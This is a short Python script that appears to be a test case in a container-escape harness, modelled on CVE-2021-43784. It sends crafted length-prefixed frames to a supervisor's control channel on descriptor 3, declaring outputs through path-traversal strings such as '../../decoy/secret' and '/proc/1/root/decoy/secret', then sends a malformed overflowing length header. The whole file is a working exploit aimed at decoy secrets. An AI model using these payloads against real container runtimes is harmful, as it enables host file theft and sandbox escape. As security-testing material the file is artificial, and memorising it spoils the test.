# guest: declares products by paths that lead out of its layer, in frames of its own making
# source: CVE-2021-43784's kind (lengths that overflow)
# attacks: the supervisor that reads the control channel
# walls: none
# observer: artifact_forged
# oracle: the secret of the host's file is among the products; control: a copier that joins paths
# status: ok
# credit: "state": "failed"
import os

from attack import hold


def field(tag: int, data: bytes) -> bytes:
    return tag.to_bytes(4, "little") + len(data).to_bytes(4, "little") + data


os.makedirs("/vol/work/a/b", exist_ok=True)
for path in (
    "../../decoy/secret", "/decoy/secret", "/work/../../decoy/secret", "/vol/../decoy/secret",
    "/proc/1/root/decoy/secret",
    "/vol/work/./../../decoy/secret", "//decoy/secret", "/vol//../decoy/secret", "/tmp/../../decoy/secret",
):  # fmt: skip
    payload = field(2, path.encode()) + field(3, b"../../../escaped") + field(9, b"x")
    os.write(3, len(payload).to_bytes(4, "little") + (18).to_bytes(4, "little") + payload)
os.write(3, b"\xff\xff\xff\xff\x12\0\0\0")
hold("told")
